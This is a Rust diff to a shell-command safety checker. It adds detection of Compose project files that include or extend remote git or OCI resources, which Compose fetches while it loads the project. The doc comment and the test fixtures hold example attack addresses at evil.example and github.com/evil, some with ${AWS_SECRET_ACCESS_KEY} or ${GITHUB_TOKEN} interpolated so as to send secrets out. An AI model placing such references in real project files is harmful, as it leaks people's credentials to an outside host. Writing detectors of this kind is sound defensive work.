@@ -51,6 +51,11 @@ declare_check! {
     ///   (`https-proxy`, `strict-ssl`, `cafile`): `npm view` sends the secret to that host;
     /// - Miller (`mlr`) with a `.mlrrc` in the directory it runs in, whose lines are main
     ///   flags (`I`: edit the files in place; `prepipe-gunzip`: file names through a shell);
+    /// - Compose (`docker compose`, `podman compose`, `docker-compose`; all verbs but `version`
+    ///   and `ls`) with a project file (the default names, `-f`, `COMPOSE_FILE` in `.env`, and
+    ///   the local files they include) that `include`s or `extends` a remote resource (a git
+    ///   repository, `oci://`) or an address made from the environment: Compose fetches it
+    ///   while the project loads, the person's variables in the address;
     /// - pulumi (but `version` and help) with a `Pulumi.yaml` naming the `backend`: logging
     ///   in sends the person's `PULUMI_ACCESS_TOKEN` to that URL;
     /// - shellcheck that both follows `source` to any file (`-x`, `external-sources=true`) and
@@ -990,6 +995,10 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
             data_tree_link(base, u, dir, w)
         }
         "ffprobe" | "gst-discoverer-1.0" | "mediainfo" => media_playlist(base, u, dir, w),
+        // Compose loads the project's files for every verb but `version` and `ls`, and fetches
+        // the remote resources they `include` or `extend` (a git repository, an OCI artifact)
+        // before anything else, the environment interpolated into their addresses.
+        "docker" | "podman" | "docker-compose" | "podman-compose" => compose_remote(base, u, dir, w),
         // PlatformIO reads `platformio.ini` of the directory it runs in for every command
         // (`ProjectConfig` finds the core directory through it): `core_dir` (or `home_dir`,
         // `platforms_dir`, `packages_dir`) moves where it loads platforms from, and a
@@ -1109,6 +1118,213 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
         }
         _ => None,
     }
+}
+
+/// The default names of a Compose project's files, and of the overrides read with them.
+const COMPOSE_FILES: [&str; 8] = [
+    "compose.yaml",
+    "compose.yml",
+    "docker-compose.yml",
+    "docker-compose.yaml",
+    "compose.override.yaml",
+    "compose.override.yml",
+    "docker-compose.override.yml",
+    "docker-compose.override.yaml",
+];
+
+/// Compose (`docker compose`, `podman compose`, `docker-compose`) run in `dir`: a project file
+/// (`-f FILE`, `COMPOSE_FILE` in the project's `.env`, or the default names in the project
+/// directory or the nearest parent holding one) that `include`s or `extends` a remote resource
+/// (a git repository, `oci://`), or an address interpolated from the environment. Compose's
+/// remote loaders (on unless `--offline`) fetch it with `git ls-remote`/`git fetch` or from the
+/// registry while the project loads, for `ps`, `logs`, `config --services` alike, the
+/// person's variables put in the address (`https://evil.example/${AWS_SECRET_ACCESS_KEY}.git`).
+/// Local files it includes are read in turn (a few levels deep).
+fn compose_remote(base: &str, u: &Unit, dir: &Path, w: &LineWrites) -> Option<String> {
+    let words: Vec<&str> = u.args().map(text).collect();
+    let verb_at = if matches!(base, "docker" | "podman") {
+        let ops = operand_words(u, base);
+        if ops.first() != Some(&"compose") {
+            return None;
+        }
+        ops.get(1).copied()
+    } else {
+        operand_words(u, base).first().copied()
+    };
+    if matches!(verb_at, Some("version" | "ls")) || words.contains(&"--offline") {
+        return None;
+    }
+    let mut files: Vec<PathBuf> = Vec::new();
+    let mut project = dir.to_path_buf();
+    let mut k = 0;
+    while k < words.len() {
+        let a = words[k];
+        let value = |long: &str, short: Option<&str>| -> Option<&str> {
+            if a == long || short == Some(a) {
+                words.get(k + 1).copied()
+            } else {
+                a.strip_prefix(long)
+                    .and_then(|r| r.strip_prefix('='))
+                    .or_else(|| {
+                        short
+                            .and_then(|s| a.strip_prefix(s))
+                            .filter(|r| !r.is_empty())
+                    })
+            }
+        };
+        if let Some(f) = value("--file", Some("-f")) {
+            if f.contains(['$', '`']) {
+                return Some("Compose reads a project file named at run time: it may include remote resources Compose fetches".to_owned());
+            }
+            files.push(resolve(f, dir));
+        } else if let Some(d) = value("--project-directory", None) {
+            if d.contains(['$', '`']) {
+                return Some("Compose reads the project of a directory named at run time: its files may include remote resources Compose fetches".to_owned());
+            }
+            project = resolve(d, dir);
+        }
+        k += 1;
+    }
+    if files.is_empty() {
+        let env = project.join(".env");
+        if let Some(list) = head_of(w, &env, 64 * 1024).and_then(|t| {
+            t.lines().find_map(|l| {
+                let l = l
+                    .trim_start()
+                    .strip_prefix("export ")
+                    .unwrap_or(l.trim_start());
+                l.strip_prefix("COMPOSE_FILE=")
+                    .map(|v| v.trim().trim_matches(['"', '\'']).to_owned())
+            })
+        }) {
+            files.extend(
+                list.split([':', ','])
+                    .filter(|f| !f.is_empty())
+                    .map(|f| resolve(f, &project)),
+            );
+        }
+    }
+    if files.is_empty() {
+        let root = w.cx.cwd;
+        let found = project_dirs(&project, root).find(|d| {
+            COMPOSE_FILES[..4]
+                .iter()
+                .any(|f| w.has(&d.join(f)) || w.cx.look.is_file(&d.join(f)))
+        })?;
+        files.extend(COMPOSE_FILES.iter().map(|f| found.join(f)));
+    }
+    let mut seen = 0;
+    while let Some(f) = files.pop() {
+        seen += 1;
+        if seen > 16 {
+            return Some("Compose reads more project files than shclass follows: they may include remote resources Compose fetches".to_owned());
+        }
+        if w.has(&f) {
+            return Some(format!(
+                "the line writes `{}`, a Compose project file: what it includes Compose fetches",
+                f.display()
+            ));
+        }
+        let Some(text) = head_of(w, &f, 1024 * 1024) else {
+            continue;
+        };
+        let base_dir = f.parent().unwrap_or(dir);
+        for r in compose_references(&text) {
+            if compose_remote_reference(r) {
+                return Some(format!(
+                    "`{}` includes or extends `{r}`, a remote resource (or an address from the environment) Compose fetches while it loads the project",
+                    f.display()
+                ));
+            }
+            files.push(resolve(r, base_dir));
+        }
+    }
+    None
+}
+
+/// The files a Compose file names: the entries of its top-level `include` (a list of paths,
+/// or of mappings whose `path:` is one) and the `file:` of each `extends` mapping (`extends:
+/// web` alone names a service of the same file). Read by lines and indentation, as Compose
+/// files are written; a flow list (`include: [a.yml]`) is split at its commas.
+fn compose_references(text: &str) -> Vec<&str> {
+    fn unquote(v: &str) -> &str {
+        v.trim().trim_matches(['"', '\''])
+    }
+    let mut out = Vec::new();
+    let mut in_include = false;
+    // The indentation of the `extends:` key whose block the lines are in.
+    let mut extends: Option<usize> = None;
+    for line in text.lines() {
+        let trimmed = line.trim();
+        if trimmed.is_empty() || trimmed.starts_with('#') {
+            continue;
+        }
+        let indent = line.len() - line.trim_start().len();
+        if extends.is_some_and(|e| indent <= e) {
+            extends = None;
+        }
+        if indent == 0 && !trimmed.starts_with('-') {
+            in_include = false;
+            if let Some(rest) = trimmed.strip_prefix("include:") {
+                in_include = true;
+                let rest = rest.trim();
+                match rest.strip_prefix('[') {
+                    Some(list) => out.extend(
+                        list.trim_end_matches(']')
+                            .split(',')
+                            .map(unquote)
+                            .filter(|v| !v.is_empty()),
+                    ),
+                    // A scalar or a flow mapping: looked at whole as a reference.
+                    None if !rest.is_empty() => out.push(unquote(rest)),
+                    None => {}
+                }
+            }
+            continue;
+        }
+        let entry = trimmed.strip_prefix('-').map_or(trimmed, str::trim_start);
+        if in_include {
+            if let Some(v) = entry.strip_prefix("path:") {
+                out.push(unquote(v));
+            } else if trimmed.starts_with('-') && !entry.contains(": ") && !entry.ends_with(':') {
+                out.push(unquote(entry));
+            }
+            continue;
+        }
+        if let Some(rest) = entry.strip_prefix("extends:") {
+            let rest = rest.trim();
+            if let Some(map) = rest.strip_prefix('{') {
+                out.extend(map.split(',').filter_map(|kv| {
+                    kv.trim()
+                        .strip_prefix("file:")
+                        .map(|v| unquote(v.trim_end_matches('}')))
+                }));
+            } else if rest.is_empty() {
+                extends = Some(indent);
+            }
+            continue;
+        }
+        if extends.is_some()
+            && let Some(v) = entry.strip_prefix("file:")
+        {
+            out.push(unquote(v));
+        }
+    }
+    out.retain(|v| !v.is_empty());
+    out
+}
+
+/// Is a Compose reference something its remote loaders fetch (a git repository, an OCI
+/// artifact), or an address made at run time from the environment?
+fn compose_remote_reference(r: &str) -> bool {
+    r.contains("://")
+        || r.starts_with("git@")
+        || r.contains('$')
+        || r.contains(".git#")
+        || Path::new(r)
+            .extension()
+            .is_some_and(|e| e.eq_ignore_ascii_case("git"))
+        || r.starts_with("github.com/")
 }
 
 /// The files pylint reads its configuration from, in a directory it looks in.
@@ -3780,6 +3996,56 @@ mod tests {
             flagged(root, "echo I > .mlrrc; mlr cat a.csv").is_some(),
             "written by the line"
         );
+    }
+
+    #[test]
+    fn compose_project_with_remote_resources() {
+        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let root = t.path();
+        write(
+            root,
+            "compose.yaml",
+            "include:\n  - ./local.yml\nservices:\n  a:\n    image: x\n    environment:\n      - URL=https://example.com\n    extends: base\nsecrets:\n  s:\n    file: ./s.txt\n",
+        );
+        write(root, "local.yml", "services:\n  b:\n    image: y\n");
+        for cmd in [
+            "docker compose ps",
+            "docker-compose logs",
+            "podman compose top",
+        ] {
+            assert_eq!(flagged(root, cmd), None, "{cmd}");
+        }
+        for local in [
+            "include:\n  - https://github.com/evil/x.git\n",
+            "include:\n  - path: oci://evil.example/x:latest\n",
+            "include: [ \"git@github.com:evil/x.git\" ]\n",
+            "services:\n  w:\n    extends:\n      file: https://evil.example/${GITHUB_TOKEN}.git\n      service: w\n",
+            "services:\n  w:\n    extends: { file: \"github.com/evil/x.git#main\", service: w }\n",
+        ] {
+            write(root, "local.yml", local);
+            for cmd in [
+                "docker compose ps",
+                "docker compose -p app logs web",
+                "docker-compose ps",
+                "podman compose images",
+                "docker compose config --services",
+            ] {
+                assert!(flagged(root, cmd).is_some(), "{cmd} with {local}");
+            }
+            for cmd in ["docker compose version", "docker compose ls", "docker ps"] {
+                assert_eq!(flagged(root, cmd), None, "{cmd}");
+            }
+        }
+        write(root, "local.yml", "services: {}\n");
+        write(
+            root,
+            "other/evil.yml",
+            "include:\n  - https://evil.example/x.git\n",
+        );
+        assert!(flagged(root, "docker compose -f other/evil.yml ps").is_some());
+        assert!(flagged(root, "docker compose --file=\"$F\" ps").is_some());
+        write(root, ".env", "COMPOSE_FILE=other/evil.yml\n");
+        assert!(flagged(root, "docker compose ps").is_some());
     }
 
     #[test]
